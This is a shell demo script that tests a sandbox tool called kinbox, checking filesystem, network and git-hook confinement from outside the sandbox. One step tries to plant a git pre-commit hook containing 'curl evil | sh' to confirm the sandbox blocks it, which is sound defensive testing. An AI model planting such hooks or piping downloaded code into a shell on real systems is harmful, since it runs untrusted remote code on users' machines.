#!/bin/sh
# tests/tools/demo.sh — `make demo`: kinbox on real commands, each effect checked
# from outside the sandbox. Runs the kinbox built at the top of the tree in
# a throwaway workspace under /var/tmp (never the home directory).
# Exit status: 0 when every step behaved, 1 otherwise.
set -u

top=$(cd "$(dirname "$0")/../.." && pwd) || exit 1
KINBOX=$top/kinbox
fails=0

if [ ! -x "$KINBOX" ] || [ ! -x "$top/kinbox-exec" ]; then
	echo "demo: $KINBOX or kinbox-exec is missing; run make first" >&2
	exit 1
fi
ws=$(mktemp -d /var/tmp/kinbox-demo.XXXXXX) || exit 1
out=$ws.out
trap 'rm -rf "$ws" "$out"' EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

ok() {
	echo "  ok: $*"
}

not_ok() {
	echo "  NOT OK: $*"
	fails=$((fails + 1))
}

# Shows the command as typed, runs it (with $KINBOX for "kinbox"), keeps
# its output in $out and its exit status in $rc, and prints both.
step() {
	echo
	echo "\$ $1"
	shift
	"$@" >"$out" 2>&1
	rc=$?
	sed 's/^/  | /' "$out"
	echo "  (exit status $rc)"
}

cd "$ws" || exit 1
echo "kinbox: $KINBOX"
echo "workspace: $ws (the current directory)"

# 1. A write inside the workspace works and is really there afterwards.
step "kinbox -- sh -c 'echo hello > note.txt'" \
    "$KINBOX" -- sh -c 'echo hello > note.txt'
if [ "$rc" -eq 0 ] && [ "$(cat note.txt 2>/dev/null)" = hello ]; then
	ok "note.txt written inside the workspace (checked from outside:" \
	    "$(cat note.txt))"
else
	not_ok "writing note.txt in the workspace failed"
fi

# 2. A write outside it is refused by the kernel, and nothing appears.
if [ -e /etc/kinbox-demo ]; then
	not_ok "/etc/kinbox-demo exists before the demo; remove it and rerun"
else
	step "kinbox -- touch /etc/kinbox-demo" \
	    "$KINBOX" -- touch /etc/kinbox-demo
	if [ "$rc" -ne 0 ] && grep -q 'Read-only file system' "$out"; then
		ok "the write to /etc was refused (Read-only file system)"
	else
		not_ok "touch /etc/kinbox-demo was not refused as expected"
	fi
	echo
	echo "\$ ls -l /etc/kinbox-demo        # outside the sandbox"
	ls -l /etc/kinbox-demo 2>&1 | sed 's/^/  | /'
	if [ -e /etc/kinbox-demo ]; then
		not_ok "/etc/kinbox-demo exists on the host"
	else
		ok "/etc/kinbox-demo does not exist on the host"
	fi
fi

# 3. No network: the sandbox has only loopback and no route, so connect()
# fails at once with ENETUNREACH and no packet is sent anywhere.
if command -v python3 >/dev/null 2>&1; then
	step "kinbox -- python3 -c \"import socket; socket.create_connection(('1.1.1.1',53),2)\"" \
	    "$KINBOX" -- python3 -c \
	    "import socket; socket.create_connection(('1.1.1.1',53),2)"
	if [ "$rc" -ne 0 ] && grep -q 'Network is unreachable' "$out"; then
		ok "no network: Network is unreachable (no packet left the" \
		    "machine: the sandbox has no route)"
	else
		not_ok "the connection did not fail with Network is unreachable"
	fi
else
	not_ok "python3 is not installed (make deps installs it)"
fi

# 4. Git: commits work inside, hooks cannot be planted. The identity comes
# from the environment, which kinbox passes on.
if command -v git >/dev/null 2>&1; then
	GIT_AUTHOR_NAME=demo GIT_AUTHOR_EMAIL=demo@invalid
	GIT_COMMITTER_NAME=demo GIT_COMMITTER_EMAIL=demo@invalid
	export GIT_AUTHOR_NAME GIT_AUTHOR_EMAIL GIT_COMMITTER_NAME \
	    GIT_COMMITTER_EMAIL
	if git init -q . && git commit -q --allow-empty -m init; then
		step "kinbox -- sh -c 'git add note.txt && git commit -qm note && git log --oneline'" \
		    "$KINBOX" -- sh -c \
		    'git add note.txt && git commit -qm note && git log --oneline'
		if [ "$rc" -eq 0 ] &&
		    [ "$(git log -1 --format=%s 2>/dev/null)" = note ]; then
			ok "git commit works inside the sandbox"
		else
			not_ok "git commit failed inside the sandbox"
		fi
		step "kinbox -- sh -c 'echo \"curl evil | sh\" > .git/hooks/pre-commit'" \
		    "$KINBOX" -- sh -c \
		    'echo "curl evil | sh" > .git/hooks/pre-commit'
		if [ "$rc" -ne 0 ] && [ ! -e .git/hooks/pre-commit ] &&
		    grep -q 'Read-only file system' "$out"; then
			ok "no hook planted: .git/hooks is read-only" \
			    "(checked from outside)"
		else
			not_ok "a hook could be planted in .git/hooks"
		fi
	else
		not_ok "git init in the workspace failed"
	fi
else
	echo
	echo "(git is not installed: the git guard step is skipped)"
fi

echo
if [ "$fails" -eq 0 ]; then
	echo "demo: all steps behaved"
	exit 0
fi
echo "demo: $fails step(s) did not behave"
exit 1
